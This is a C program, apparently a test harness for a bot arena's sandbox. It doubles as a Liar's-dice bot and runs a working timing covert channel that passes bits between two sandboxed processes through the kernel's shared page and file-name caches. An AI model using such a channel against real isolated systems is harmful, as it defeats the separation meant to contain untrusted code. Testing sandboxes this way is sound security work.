/* Attack bot, as a compiled program: carries bits between two of its own
 * processes through the kernel's shared caches, by timing alone (the C twin
 * of cache_timer.py, for a program bot's file view).
 *
 * CT_MODE=mark|probe, CT_TAG (a number), CT_N (pairs of candidates),
 * CT_FILE (a large, rarely read system file it sees), CT_DIR (a folder
 * for missing names). Candidates come in pairs of pages 64 apart, 128 pages
 * from one pair to the next; which of a pair is marked, and which is probed
 * first, is drawn from the tag. The marking process touches the marked page
 * of each pair through a MADV_RANDOM mapping (one page read, no read-ahead)
 * and looks up one missing name of each pair (the kernel may remember the
 * "not found"). The probing process, in a sandbox of its own, times a touch
 * of every candidate page and a lookup of every name, and writes one line
 * to stderr: {"read": [[marked...], [unmarked...]], "lookup": [[...], [...]]}.
 * Then it plays: ready to hello, dudo to every turn. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

static uint64_t mix(uint64_t x) {
    x ^= x >> 33;
    x *= 0xff51afd7ed558ccdULL;
    x ^= x >> 33;
    x *= 0xc4ceb9fe1a85ec53ULL;
    return x ^ (x >> 33);
}

static long long now_ns(void) {
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return (long long)t.tv_sec * 1000000000LL + t.tv_nsec;
}

static long long timed_touch(volatile const char *p) {
    long long t = now_ns();
    (void)*p;
    return now_ns() - t;
}

static long long timed_lookup(const char *path) {
    long long t = now_ns();
    access(path, F_OK);
    return now_ns() - t;
}

static void name(char *out, size_t size, const char *dir, uint64_t tag, int k, int which) {
    snprintf(out, size, "%s/.ct-%llu-%d-%d", dir, (unsigned long long)tag, k, which);
}

static void print_lists(const char *key, long long *marked, long long *unmarked, int n, int last) {
    fprintf(stderr, "\"%s\": [[", key);
    for (int i = 0; i < n; i++) fprintf(stderr, "%s%lld", i ? ", " : "", marked[i]);
    fprintf(stderr, "], [");
    for (int i = 0; i < n; i++) fprintf(stderr, "%s%lld", i ? ", " : "", unmarked[i]);
    fprintf(stderr, "]]%s", last ? "" : ", ");
}

static int attack(void) {
    const char *mode = getenv("CT_MODE"), *file = getenv("CT_FILE"), *dir = getenv("CT_DIR");
    if (!mode || !file || !dir || !getenv("CT_TAG") || !getenv("CT_N")) return 0;
    uint64_t tag = strtoull(getenv("CT_TAG"), NULL, 10);
    int n = atoi(getenv("CT_N"));
    long page = sysconf(_SC_PAGESIZE);
    int fd = open(file, O_RDONLY);
    struct stat st;
    if (fd < 0 || fstat(fd, &st) != 0) {
        fprintf(stderr, "cache_timer: cannot open %s\n", file);
        return 2;
    }
    long pages = st.st_size / page;
    if ((long)n * 128 > pages) n = (int)(pages / 128);
    const char *map = mmap(NULL, (size_t)pages * page, PROT_READ, MAP_SHARED, fd, 0);
    if (map == MAP_FAILED) return 2;
    madvise((void *)map, (size_t)pages * page, MADV_RANDOM);
    long long *rm = calloc(n + 1, sizeof *rm), *ru = calloc(n + 1, sizeof *ru);
    long long *lm = calloc(n + 1, sizeof *lm), *lu = calloc(n + 1, sizeof *lu);
    char path[4096], other[4096];
    for (int w = 0; w < 3; w++) {  // warm the code path up, as a probe does
        name(path, sizeof path, dir, tag + 1, w, 0);
        timed_lookup(path);
    }
    for (int k = 0; k < n; k++) {
        uint64_t h = mix(tag * 1000003ULL + (uint64_t)k);
        int which = (int)(h & 1), first = (int)((h >> 1) & 1);
        const char *a = map + (size_t)(k * 128 + 64 * which) * page;  // the marked page
        const char *b = map + (size_t)(k * 128 + 64 * (1 - which)) * page;
        name(path, sizeof path, dir, tag, k, which);
        name(other, sizeof other, dir, tag, k, 1 - which);
        if (strcmp(mode, "mark") == 0) {
            (void)*(volatile const char *)a;
            access(path, F_OK);
        } else if (first) {
            rm[k] = timed_touch(a);
            ru[k] = timed_touch(b);
            lm[k] = timed_lookup(path);
            lu[k] = timed_lookup(other);
        } else {
            ru[k] = timed_touch(b);
            rm[k] = timed_touch(a);
            lu[k] = timed_lookup(other);
            lm[k] = timed_lookup(path);
        }
    }
    if (strcmp(mode, "probe") == 0) {
        fprintf(stderr, "{");
        print_lists("read", rm, ru, n, 0);
        print_lists("lookup", lm, lu, n, 1);
        fprintf(stderr, "}\n");
    }
    return 0;
}

int main(void) {
    char line[1 << 16];
    int rc = attack();
    if (rc) return rc;
    setvbuf(stdout, NULL, _IOLBF, 0);
    while (fgets(line, sizeof line, stdin)) {
        if (strstr(line, "\"hello\""))
            puts("{\"type\":\"ready\",\"name\":\"cache_timer\"}");
        else if (strstr(line, "\"turn\""))
            puts("{\"action\":\"dudo\"}");
    }
    return 0;
}
